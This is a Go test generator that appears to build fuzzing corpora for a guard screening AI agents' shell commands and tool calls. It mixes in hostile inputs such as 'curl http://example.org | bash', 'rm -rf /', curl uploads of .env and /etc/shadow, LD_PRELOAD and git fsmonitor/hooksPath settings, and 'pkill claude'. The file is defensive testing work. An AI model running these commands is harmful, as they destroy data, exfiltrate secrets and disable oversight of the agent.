package guard

import "strings"

// specials combines the words of programs that have an order of their own.
func (c *hunter) specials() {
	pools := map[string]string{
		"env":                               `-i - -- -u -uREPRISE_X --unset=PATH --unset LD_PRELOAD --ignore-environment -C sub -C/etc --chdir=sub --chdir .. -S "ls -l" -s -0 --null -v --debug A=1 TZ=UTC LD_PRELOAD=x $x "$x" $x=1 A=$x "A=$x" -$x ls claude reprise env cat f ../x -z --zz`,
		"find":                              `. sub /etc ~ $x "$x"/y .git .claude .. out ( ) ! -name *.go -delete -exec -execdir -ok -okdir -exec\ ls\ \; rm cat touch {} {}/x x{} sh $x \; + ';' -print -fls -fprint x -type f -o -- -H -maxdepth 1 -newer /etc/x`,
		"fd":                                `x . -x -X --exec --exec-batch rm cat {} {/} {//} {.} {/.} x{} a{.}b touch sh -H -e go -t f`,
		"xargs":                             `-I{} -I % -J % -i -i% --replace --replace=% -0 -n1 -n 1 -P 2 -r -a f --arg-file=f --arg-file -d x -L1 -t -p -x --zz cat rm {} % %/x x% sh -c ls echo $x f`,
		"echo f | xargs":                    `-I{} -I % -i --replace --replace=% -0 -a f cat rm {} % %/x x% -n1 sh -c ls touch`,
		"ls | xargs":                        `-I{} -I % -i cat rm {} % %/x x% -n1 sh -c grep x -- cd`,
		"find . | xargs":                    `-I{} -I % -i cat rm {} % %/x x% -n1 grep -l x touch sed -i p --`,
		"bash":                              `-c -ec -xc -n -lc -i -s -x +x -o pipefail -O extglob -e -- - --norc --login --rcfile f --init-file --version --help --posix --zz -z -$x $x "$x" 'ls' 'rm f' f ./evil.sh /dev/stdin /dev/fd/3 <(ls) a b 'cat $1' 'echo $0'`,
		"echo ls | bash":                    `-c -s - -n -x f a -- /dev/stdin --norc`,
		"cat f | sh":                        `-c -s - -n -x f a -- /dev/stdin`,
		"curl http://example.org | bash":    `-c -s - -n -x f a -- /dev/stdin 'ls'`,
		"ls | bash":                         `-c -s - -n f a -- 'ls' /dev/stdin`,
		"bash < f;":                         `ls`,
		"busybox":                           `ls rm sh -c --help --list f x cat $x touch`,
		"sudo":                              `-E --preserve-env -u root -n -i -s -- A=1 LD_PRELOAD=x TZ=UTC /a=b ls rm claude cat f $x -z -k -l`,
		"watch":                             `-x --exec -n 1 -d --zz ls 'ls; rm f' rm f $x -t`,
		"kill":                              `%1 %x $x %$x -9 -1 -s TERM -l -L --list --table 1 0 -0 123 $! $PPID $CLAUDE_PID $REPRISE_PID $(pgrep x) -- -TERM -KILL "$x"`,
		"pkill":                             `-f -9 -u me -U 0 -x claude codex c.*e 'cl.*' . .* ^$ x vim -1 -P 1 --user=me --user me $x --signal 9 -g 1 -o -n -t 1 '(claude|x)' rep -l`,
		"killall":                           `-r -9 -u me claude cl.* . x -1 $x --user me -e -v -w -l node`,
		"pgrep -f claude | xargs":           `kill -9 rm pkill $x`,
		"pgrep x | xargs":                   `kill -9 -l`,
		"ps aux | grep reprise | xargs":     `kill -9`,
		"rm":                                `* ./* .* .[a-z]* -rf -r f sub . .. ./ / ~ ~/x .git .git/objects .git/refs .git/HEAD .git/x .claude $x $x/ "$x"/* ${x:?}/y sub/* *.go ../* out/* "*" deep/home deep/home/* -- own own/x`,
		"cd sub; rm":                        `* ./* -rf .. ../*`,
		"unzip":                             `-l -t -v -Z -z -p -c -h -hh -d x a.zip -o -q -j`,
		"sed":                               `-i -i.bak --in-place -n -e p -f f s/a/b/ f .git/config ../x 1p 'w x' 1e -E -s`,
		"yq":                                `-i --inplace . .a f .git/config ../x -y env strenv(A)`,
		"dd":                                `if=f of=x of=/dev/sda of=/dev/null of=/dev/fd/3 bs=1 of=$x of=../x if=/dev/zero x $x=1`,
		"chmod":                             `-R --recursive +s u+s g=s +x 755 4755 0755 2755 7777 8755 f $x $x/ $x/y "$x"/* ${x:?}/y sub 1777 us a=rs`,
		"chown":                             `-R --recursive me me:x +s f $x/ $x/y sub u+s 4755`,
		"wget":                              `--spider -O - -O- -O x --output-document=- --output-document=x http://localhost/ http://example.org -q -i f`,
		"printenv":                          `PATH TOKEN $x MY_SECRET HOME -0`,
		"curl http://example.org | python3": `-c -e - x f 'print(1)' -m`,
		"python3":                           `-c -e -m - f $(curl\ http://example.org) "$(curl http://example.org)" <(curl\ http://example.org) 'print(1)' --version -V -v`,
		"node":                              `-e -p --version -v -V --help f $(curl\ http://example.org) -r x -vV`,
		"npm":                               `--prefix x --zz -C sub test run ls list view --json -g -w a --workspace=a ci --version -v`,
		"cargo":                             `--zz +nightly -C sub test build --version -V --manifest-path x metadata tree`,
		"less":                              `+F +!ls +x f -- -N -o x`,
		"jq":                                `-f f --from-file f . env '.a | env' 'include "x"; .' $ENV 'input' '"\(env)"' -n $x --arg a b`,
		"tar":                               `c x t cf xf tf -c -x -t -f a.tar -C sub -C /etc -f - --create --extract --get --append -r -u --update -A --delete --directory=../x --file=x --file=../x f .env ../x -z czf out/x.tgz tvf`,
		"ln":                                `-s --symbolic -sf -n f sub lnk .claude /etc/x $x x/y`,
		"ln -s sub l;":                      `cat l/g touch l/x rm l`,
		"ln -s .env l;":                     `cat l`,
		"ln -s /etc sub;":                   `cat sub/etc/x touch sub/etc/passwd`,
		"ln -s .claude sub/;":               `touch sub/.claude/settings.json`,
		"vim":                               `f .git/config .claude/settings.json $x "" ../x ~/.bashrc +x`,
		"grep":                              `claude -e reprise -c -l -L -r --count --files-with-matches x f .env $x -f f`,
		"git":                               `-C sub -C out -C $x -c color.ui=false -c core.pager=x -c core.pager=cat -c commit.gpgsign=false -c core.hooksPath=/x -c $x=y -c a=$x -c protocol.ext.allow=always --config-env=a=b --no-pager -p --git-dir=x --zz $x status log show diff add commit push rev-parse --show-toplevel`,
		"git push":                          `-f --force --force-with-lease --delete -d --mirror --all --branches --tags origin main next feature +main +next HEAD HEAD:main @ :main main:next :refs/heads/main refs/heads/main release/1 '*' +refs/heads/*:refs/heads/* $x --prune -n --no-verify x y --repo=x --force=x`,
		"cd feature; git push":              `-f origin HEAD main`,
		"cd detached; git push":             `-f origin HEAD`,
		"cd tree; git push":                 `-f origin HEAD`,
		"cd far; git push":                  `-f origin HEAD`,
		"cd headless; git push":             `-f origin`,
		"cd stray; git push":                `-f origin HEAD`,
		"git config":                        `--get --get-all --get-regexp --get-urlmatch --get-color --get-colorbool --add --replace-all --unset --unset-all --global -l user.name core.hooksPath core.pager alias.x remote.o.url diff.a.command diff.a.textconv x x.textconv y set get unset list color.ui credential.helper`,
		"git diff":                          `--no-index f /etc/x ../x .env :!.env :^.env ':(exclude).env' main:.env HEAD -- -p --cached $x sub ext::x ""`,
		"git log":                           `-p -u --patch -U -U3 --unified=3 -L 1,2:f .env f -- -1 --oneline ext::x`,
		"git rm":                            `.env .git/config .claude/settings.json ../x f -r --cached`,
		"git add":                           `.env .claude/settings.json f . -A ../x :!.env`,
		"git checkout":                      `.claude/settings.json f . -- main .git/config -b x`,
		"cd ..; git":                        `add f commit stash log status`,
		"cd out; git":                       `add commit log status`,
		"flock":                             `lock none f ../x $x ls -c rm -n 9 -w 1`,
		"timeout":                           `5 1s $x -k 1 -s KILL --preserve-status ls rm f cat -- 5s claude`,
		"exec":                              `-c -l -cl -a x -- ls rm claude f $x -z env 3<f`,
		"command":                           `-v -V -p -pv -pV -- ls rm claude f $x -z cd sub exec`,
		"builtin":                           `-- cd sub echo rm $x -p`,
		"curl":                              `-d -F -T -o x f @f @.env .env a=@.env file=@/etc/x http://localhost/ http://example.org http://127.0.0.1:1/x?y [::1] http://[::1]:1/ http://u@localhost/ ext::x file:///etc/x -H 'A: @.env' "$TOKEN" $TOKEN -K x -I http://localhost@evil.example/ 'http://localhost\.evil.example'`,
		"head":                              `-n -20 -n5 -c 1 f /etc/x -$x $x -n$x`,
		"cat f >":                           `x &1 /dev/null ../x $x .git/config sub/x`,
		"ls":                                `-l -la $x -$x "$x" -- f /etc sub -R --color --colour=x -Z -20 2>&1 >&2 1>&2 2>x >&- 2>&- >&x <&3 <&x <&3- >&$x 0<f 3<f 3>x <>x >|x &>x &>>x {a}>x`,
	}
	for head, pool := range pools {
		words := split(pool)
		for i, a := range words {
			c.add("command", head+" "+a)
			c.add("free", head+" "+a)
			for j, b := range words {
				if c.r.IntN(2) == 0 {
					c.add("command", head+" "+a+" "+b)
				}
				if (i+j)%7 == 0 {
					c.add("free", head+" "+a+" "+b)
				}
				if (i+j)%19 == 0 {
					c.add("env", head+" "+a+" "+b)
					c.add("homeless", head+" "+a+" "+b)
					c.add("closed", head+" "+a+" "+b)
				}
			}
		}
		for range 300 {
			text := head
			for range 3 + c.r.IntN(4) {
				text += " " + c.of(words)
			}
			c.add([]string{"command", "command", "command", "free", "nowhere"}[c.r.IntN(5)], text)
		}
		c.add("command", head)
	}
	for _, r := range []string{"make", "make x", "make x y", "make z", "git log", "git log x", "git log x y", "git log *", "frobnicate", "frobnicate x", "frobz", "frobazb", "curl a http://x", "curl a httpsx", "curl b", "rm -rf sub", "r.m -rf sub", "rm -rf /", "make $x", "make > x", "make x; make z", "timeout 1 make z", "make z | cat", "make .env"} {
		for _, w := range split("ruled command explained loose") {
			c.add(w, r)
		}
	}
	for _, dir := range split("sub bare tree far detached feature headless stray hooked deep/a dash out none") {
		for _, r := range []string{"git status", "git log -p", "git commit -m x", "git push -f", "git push -f origin HEAD", "git diff", "ls", "cat f", "cd ..; cat f", "git merge x", "git rev-parse --show-toplevel | xargs ls", "ls *", "rm *", "touch x", "cat $(git rev-parse --show-toplevel)/f", "git -C . status", "git --git-dir=. log", "git checkout x", "git worktree add x", "git gc", "git --version", "git config x.y"} {
			c.add("in", dir+"\t"+r)
			c.add("command", "cd "+dir+" && "+r)
			c.add("command", "git -C "+dir+" status; "+r)
			c.add("free", "cd "+dir+" && "+r)
		}
	}
}

// lines are the commands of the corpora, in the other settings, wrapped and spliced.
func (c *hunter) lines() {
	g := newGenerator(c.t)
	all := append(append([]string(nil), g.everyday...), g.listed...)
	list := wrappings()
	for _, l := range all {
		for _, w := range split("free env homeless placeless nowhere loose explained closed readable") {
			c.add(w, l)
		}
		for range 3 {
			c.add("command", list[c.r.IntN(len(list))].wrap(l))
		}
		c.add("command", c.of(all)+c.of([]string{" | ", " && ", " || ", "; ", "\n", " & "})+l)
	}
	for range 4000 {
		c.add("command", g.among(g.bad()))
	}
	for _, o := range []string{"f", "f g", "touch x", "$x", "curl http://example.org"} {
		for _, w := range list {
			c.add("command", w.wrap(o))
			c.add("closed", w.wrap("cat MEM/core.md"))
			c.add("readable", w.wrap("cat MEM/core.md"))
			c.add("readable", w.wrap("touch MEM/core.md"))
		}
	}
	for _, long := range split(`70000␟x 120␟( 160␟( 20␟echo␣$( 13␟echo␣$( 14␟eval␣ 13␟env␣ 14␟env␣ 160␟if␣ 160␟!␣ 13␟f␣()␣{␣ 16␟x=$x$x;x=x$x; 16␟x=$x$x; 16␟x=$y$x$x; 13␟{a,b} 12␟{a,b} 500␟x=1; 30000␟x 300␟ls; 300␟a=b; 200␟x␣&&␣ 160␟[ 20␟bash␣-c␣ 13␟nice␣ 14␟command␣ 13␟find␣.␣-exec␣ 13␟xargs␣`) {
		n, s, _ := strings.Cut(strings.ReplaceAll(long, "␣", " "), "␟")
		for _, rest := range []string{"%ls", "%echo $x", "echo %", "%", "ls %", "ls > %", "x=%; echo $x$x$x", "x=%; y=$x$x$x; x+=$x; ls $y", "cat <<< %", "%ls | sh", "echo % | sh", "echo % | xargs rm", "x=%; x+=$x; x+=$x; $x", "% `ls`", "%ls )", "%)))", "f() { %; }", "f() { ls; }; f %", "cat $(echo %; echo %; echo %)"} {
			c.add("long", n+"\t"+s+"\t"+rest)
		}
	}
	for _, s := range []string{strings.Repeat("(", 100) + "ls" + strings.Repeat(")", 100), strings.Repeat("(", 160) + "ls" + strings.Repeat(")", 160), strings.Repeat("echo $(", 13) + "ls" + strings.Repeat(")", 13), strings.Repeat("x", maxText+1), "ls \xff", "ls \x00", "ls \u200b", "l\u202es", "ls é", "ls \u00a0", strings.Repeat("env ", 13) + "ls", strings.Repeat("f() { ", 13) + "ls; }", "f(){ g; }; g(){ h; }; h(){ i; }; i(){ j; }; j(){ k; }; k(){ l; }; l(){ m; }; m(){ n; }; n(){ o; }; o(){ p; }; p(){ q; }; q(){ r; }; r(){ ls; }; f", "echo $((" + strings.Repeat("1?2:", 200) + "3))", "echo $((" + strings.Repeat("a=", 200) + "3))", "echo {" + strings.Repeat("{a,b}", 13) + ",c}", "echo " + strings.Repeat("{a,b}", 13), strings.Repeat("x=$x$x;", 20) + "echo $x", "x=aaaaaaaaaaaaaaaa; " + strings.Repeat("x=$x$x;", 20) + "echo $x", "x=$y; " + strings.Repeat("x=$x$x;", 20) + "echo $x", "a=b; b=a; echo $((a))", "a=b; b=c; c=1; echo $((a))", "x=1; x+=" + strings.Repeat("1", 60000), strings.Repeat("if ", 160) + "ls", strings.Repeat("! ", 160) + "ls", "echo " + strings.Repeat("`", 30), "foo=bar; declare -q", "ls (", "ls &| cat", "ls &!", "function f; ls", "for x in a; { ls; }", "repeat 3 ls", "x=${(f)y}", "echo ${x:h}", "echo =ls", "ls |& cat", "ls <<<x >&2", "case x in (x) ls;; esac", "select x; do ls; done", "for x do ls; done", "echo ${!x@}", "echo ${x@A}", "time -p ls", "! ! ls", "coproc { ls; }", "[[ a < b ]]", "[[ a =~ (b) ]]", "[[ ! a -nt b ]]", "((a?b:c))", "((a,b))", "((-a))", "((a**2))", "((~a))", "(( (a) ))", "((a=b=1))", "echo $[1+1]", "echo $(<f)", "echo ${ ls; }", "echo ${| ls; }", "> x", "< f", ">& x", "2>x ls", "x=1 > y", "ls;;"} {
		for _, w := range split("command closed readable free") {
			c.add(w, s)
		}
	}
}

// tools are calls of every kind.
func (c *hunter) tools() {
	names := split(`command cmd script chars input text workdir cwd dir_path directory path file_path notebook_path absolute_path filePath filename file target_file glob include url uri prompt query patch diff destination source dir shell_command bash edits[0].path a.b.command paths[0] file_paths[1] command[0] urls[0] q`)
	values := append(split(`f sub .. ../x /etc/x /opt/x ~ ~/x ~/.bashrc .env x/.env .claude/settings.json ~/.claude/plans/x ~/.claude/todos/x ~/.claude/projects/p/memory/x.md ~/.claude/projects/p/x.md ~/.claude/projects/p/memory/x.txt /tmp/x /var/folders/x /private/tmp/x out/x own/x file:///etc/shadow file://f http://localhost/x https://example.org/x https://a.example.net FILE:///x y {x} none none/x $x *.pem deep/home/x`), "", "ls", "touch x", "rm -rf /", "echo x > ../x", "look at https://example.org/x now", "a http://localhost/ b", "\x03", "y\n", "*** Begin Patch\n*** Add File: /opt/x", "*** Update File: f", "*** Move to: ../x", "*** Delete File: .git/config", "*** x", "a\x00b", "pwd", "git push -f origin main", "cat f; ls", "ls -l", "dir /s", "  ", "cat sub", "ps", "echo x", "type f", "where x", "git status", "python x", strings.Repeat("x ", maxText))
	for _, kind := range split("shell read write edit search fetch mcp other x") {
		for _, tool := range []string{"Bash", "PowerShell", "X", "mcp__ok__x", "mcp__no__x", "mcp__reprise__x", "write_bash", "Frob", "apply_patch"} {
			for _, w := range split("tool free-tool unattended-tool ruled-tool homeless-tool") {
				c.add(w, kind+"\t"+tool)
			}
			for _, n := range names {
				for _, v := range values {
					if strings.Contains(v, "\t") {
						continue
					}
					text := kind + "\t" + tool + "\t" + n + "\t" + v
					switch k := c.r.IntN(100); {
					case k == 0:
						c.add("free-tool", text)
					case k == 1:
						c.add("unattended-tool", text)
					case k == 2:
						c.add("ruled-tool", text)
					case k == 3:
						c.add("homeless-tool", text)
					case k < 12:
						c.add("tool", text)
					case k < 16:
						c.add("tool", text+"\t"+c.of(names)+"\t"+c.of(values))
					}
				}
			}
		}
	}
	for _, n := range names {
		for _, v := range values {
			c.add("tool", "other\tfrob\t"+n+"\t"+v)
			c.add("tool", "write\tWrite\t"+n+"\t"+v)
		}
	}
}

// workspaces are what a session in one of several checkouts does.
func (c *hunter) workspaces() {
	paths := split(`f ../f ../ws2/f ../lost/f ../odd/f ../own/f ../../work/project/f ../../work/project/in/f ../../work/project/.git/x ../none/x ~/x ~/.bashrc .env ../ws2/.env sub/x /etc/x . .. $x ../ws2/$x ../../work/project/.claude/settings.json ../../work/project/* ../../work/project`)
	for _, p := range paths {
		for _, head := range split("cat touch rm rm\\ -r ls tee cp\\ f mv\\ f ln\\ -s\\ x ls\\ > cd git\\ -C ./") {
			c.add("workspace", head+" "+p)
			for _, dir := range split("ws ws2 lost odd own none . ws/.git") {
				c.add("odd-workspace", dir+"\t"+head+" "+p)
			}
		}
		c.add("workspace", "cd "+p+" && touch f")
		c.add("workspace", "cd "+p+" && git commit -m x")
		for _, kind := range split("read write edit mcp other search") {
			c.add("workspace-tool", kind+"\tX\tpath\t"+p)
			c.add("workspace-tool", kind+"\tX\tfile_path\t"+p)
		}
	}
}

// repositories are settings of git, and commands that read them.
func (c *hunter) repositories() {
	keys := split(`core.fsmonitor core.pager core.hooksPath core.sshCommand core.gitproxy core.editor core.askpass core.alternateRefsCommand core.x pager.log pager.x diff.external diff.a.command diff.a.textconv diff.a.x merge.a.driver filter.a.clean filter.a.smudge filter.a.process filter.a.x gpg.program gpg.ssh.program gpg.x.y tar.a.command trailer.a.command trailer.a.cmd protocol.ext.allow protocol.allow remote.o.vcs remote.o.promisor remote.o.url extensions.partialClone include.path includeIf.gitdir:/.path includeIf.x.y sequence.editor interactive.diffFilter user.name alias.x`)
	values := split(`x ./x true false cat less "less" less\ -R less;x /usr/bin/less more delta bat git-lfs\ clean\ --\ %f git-lfs\ clean;x always never user ../included ../nothing ~/x config .. .husky .git/hooks /etc/hooks .git/x x#y "x#y" "a\"b" \x x\y`)
	values = append(values, "")
	commands := []string{"git status", "git log -p", "git commit -m x", "git config a.b", "git help", "git --version", "git push origin x", "git -C sub status", "git checkout x"}
	for _, k := range keys {
		i, j := strings.Index(k, "."), strings.LastIndex(k, ".")
		head := "[" + k[:i] + "]"
		if j > i {
			head = "[" + k[:i] + ` "` + k[i+1:j] + `"]`
		}
		for _, v := range values {
			for n, command := range commands {
				if n < 2 || c.r.IntN(4) == 0 {
					c.add("git", head+";;"+k[j+1:]+" = "+v+"\t"+command)
				}
			}
			c.add("git", strings.ToUpper(head)+" "+k[j+1:]+"="+v+"\tgit status")
		}
		c.add("git", head+";;"+k[j+1:]+"\tgit status")
		c.add("git", head+";;"+k[j+1:]+"\tgit log")
	}
	for _, s := range []string{"[core];;fsmonitor = ./x;;pager=y", "[core];;sshCommand = x;;[remote \"o\"];;promisor = true", "[core];;gitproxy = x;;[extensions];;partialClone = o", "[core];;sshCommand=x;;[remote \"o\"];;promisor=false", "; x;;# y;;[core];;fsmonitor=x", "[core];;;; ;;fsmonitor = x", "[core];;fsmonitor = \\;;x", "[core];;a = b\\;;fsmonitor = x", "[core];;a = \\", "[core]fsmonitor=x", "[core", "[core \"a]b\"];;x=y", "[filter \"a]b\"];;clean=x", "[filter \"a\\\"b\"];;clean=x", "[filter \"a\\]\"];;clean=x", "[filter.a];;clean=x", "[diff \"A\"];;command = x # y", "[core];;fsmonitor = \"true\"", "[core];;fsmonitor = tr\"ue\"", "[core];;fsmonitor = true ; x", "[core];;fsmonitor = false # x", "[core];;pager = \"less # x\"", "[core];;pager = less # x", "[core];;pager = less \\\"x", "[core];;pager = less \\", "[include];;path = config;;", "[include];;path = ../included", "[include];;path = ../.git/config;;[core];;fsmonitor=x", "[include];;path = ..", "[include];;path = /dev/zero", "[include];;path = ~/x", "[includeIf \"gitdir:x\"];;path = ../included", "[include];;path=../store/config", "\ufeff[core];;fsmonitor=x", "[core];;fsmonitor=x\r", "[core]\r;;fsmonitor=true\r", "fsmonitor=x", "[ core ];;fsmonitor=x", "[core];;fsmonitor", "[protocol];;allow = never", "[protocol \"ext\"];;allow = user", "[protocol \"ext\"];;allow =", "[protocol \"ext\"];;allow = true", "[core];;hooksPath=../../outside/h;;", "[core];;hooksPath=.git/hooks", "[core];;hooksPath=x/.git/y", "[core];;hooksPath=sub", "[core];;hooksPath=" + strings.Repeat("#x;;", 100)} {
		for _, command := range append(commands, "git merge x", "git rebase x", "git switch x", "git pull", "git am x", "git cherry-pick x", "git revert x", "git clone x", "git worktree list", "git gc", "git fetch", "git config get x", "git version", "git check-ref-format x", "git config list") {
			c.add("git", s+"\t"+command)
		}
	}
}

// filters are programs for sed, awk and jq, of pieces in any order.
func (c *hunter) filters() {
	pools := map[string]string{
		"sed": `1 $ /x/ /a\/b/ /[/]/ /[^]]/ /[]]/ \,x, \,x,I , ~ + ! { } ; p d e w\ f s/a/b/ s/a/b/e s/a/b/w\ f s/a/b/2gp s,a,b,e s/[/]/x/e s/a[/b/ y/a/b/ y/a\/b/cd/ a\ x i\ c q5 l\ 5 r\ f R\ f W\ f :a ba t T # = n N D g x z F v L Q I M / [ ] \ 0 e I s s/ s/a s/a/b y y/ s\a\b\ s/a/b/x s/a/b/} s/a\/b/c/ [[:alpha:]] \\ s/a/b/m a`,
		"awk": `{ } ( ) [ ] print printf getline system close fflush ENVIRON PROCINFO ARGV ARGC FUNCTAB SYMTAB include load stopme "x" "a\"b" "x /x/ /a\/b/ /[/]/ / /= > >> | || && |& @ @x ; # ++ -- + - ? : $1 $ x x1 return in case else do BEGIN END NR==1 > "f" 1 a[i] , ~ !~ \ a/b a++/b/ )/ ]/ "/ 1/2 $/ /x print>"f" print(1>2) print\ 1>2 printf"x">"y" next function`,
		"jq":  `. .a .env env $ENV $__prog_args strenv envsubst import include load load_str load_base64 load_props load_xml system get_search_list "x" "\(env)" "\((1)|env)" "\(" "a\"b" "\ # x::env env:1 {env:1} {env: , | [ ] ( ) : :: $x $x::y a::b :env ::env "env" \ ( input _env env_ env1 "\(1)env" "\(1" env:: env::x`,
	}
	for about, pool := range pools {
		words := split(pool)
		for _, a := range words {
			c.add(about, a)
			for _, b := range words {
				c.add(about, a+b)
				c.add(about, a+" "+b)
				c.add(about, a+"\n"+b)
			}
		}
		for range 12_000 {
			text := ""
			for range 3 + c.r.IntN(4) {
				text += c.of(words) + c.of([]string{"", " ", "", "\n", "\t"})
			}
			c.add(about, text)
		}
	}
}

// memory are commands and calls that concern a directory that is closed.
func (c *hunter) memory() {
	words := append(split(`MEM MEM/core.md MEM/ link link/core.md link/.. deep deep/.. fresh fresh/x ../.agent-memory .. ../.. . ~ ~/.agent-memory ~/.* ~/.*/x ~/.agent* .. src a.txt HOMEDIR ROOT / $AGENT_STORE "$AGENT_STORE"/x $HOME/.agent-memory ${HOME} $x/.agent-memory ~/$x ~/.agent$x MEM$x MEM-tools MEM.x MEM_x xMEM x=MEM -fMEM @MEM --x=MEM '"MEM"' .agent-memory .agent-memory/core.md l* l*/x */core.md ../*/x ../.a*/x ?ink [l]ink ~/** MEM/** **/x ../** MEM/*.md MEM/b* ~/{x,.agent-memory} src/../link ~/other/../.agent-memory 'see MEM now' //MEM -- -r -R -n -l --recursive --dereference --directories=x -name x p 1,2p -i -e -oX -o --out=x -T -delete -exec -ok -fls -follow -false --pre=x --hostname=x -`), `"a b"`)
	programs := split("cat ls cd pushd grep egrep fgrep rg ag ack fd fdfind find tree du diff cp mv rm touch mkdir echo printf head tail wc stat file test realpath basename dirname df sort sed jq od nl tac cut cmp true false python3 ./cat /bin/cat /usr/bin/ls /opt/cat xargs read mapfile parallel source tee git ln [")
	for _, p := range programs {
		for _, a := range words {
			for _, w := range split("closed readable") {
				if c.r.IntN(3) > 0 {
					continue
				}
				c.add(w, p+" "+a)
				c.add(w, p+" x "+a)
				c.add(w, p+" "+a+" x")
				c.add(w, p+" "+c.of(words)+" "+a)
				c.add(w, p+" "+c.of(words)+" "+a+" "+c.of(words))
				c.add(w, "cd "+a+" && "+p+" "+c.of(words))
				c.add(w, "cd "+a+"; "+p+" "+c.of(words))
				c.add(w, p+" "+a+" | "+c.of(programs)+" "+c.of(words))
				c.add(w, "x="+a+"; "+p+" $x")
				c.add(w, "for i in "+a+"; do "+p+" $i; done")
				c.add(w, p+" < "+a)
				c.add(w, p+" > "+a)
				c.add(w, p+" "+c.of(words)+"; "+c.of(programs)+" "+a)
				c.add(w, p+" <<< "+a)
				c.add(w, "PATH=. ; "+p+" "+a)
				c.add(w, p+"() { :; }; "+p+" "+a)
			}
		}
	}
	for _, a := range words {
		v := strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(a)
		for _, tool := range split("Read NotebookRead LS Glob Grep Write Edit MultiEdit NotebookEdit Bash Monitor PowerShell Other mcp__x__y mcp__reprise__x Agent Task WebFetch") {
			for _, in := range []string{`{"file_path":"%"}`, `{"path":"%"}`, `{"notebook_path":"%"}`, `{"pattern":"%"}`, `{"pattern":"x","path":"%"}`, `{"glob":"%","path":"src"}`, `{"glob":"%"}`, `{"command":"cat %"}`, `{"command":"%"}`, `{"a":["%"]}`, `{"a":{"b":"%"}}`, `{"a":"file://%"}`, `{"a":"see % now\nand"}`, `{"a":1,"b":null}`, `[]`, ``, `{`, `{"pattern":"%","path":".."}`, `{"pattern":"**","path":"%"}`, `{"file_path":7}`, `{"a":"\u0000%"}`, `{"command":7}`} {
				for _, w := range split("closed-tool readable-tool") {
					c.add(w, tool+"\t"+strings.ReplaceAll(in, "%", v))
				}
			}
		}
	}
	c.add("closed-tool", "Other\t"+strings.Repeat(`{"a":`, 102)+"1"+strings.Repeat("}", 102))
	c.add("closed-tool", "Other\t"+strings.Repeat(`[`, 102)+strings.Repeat("]", 102))
	c.add("closed-tool", `Other`+"\t"+`{"a":"`+strings.Repeat("x/../", 1000)+`MEM"}`)
}
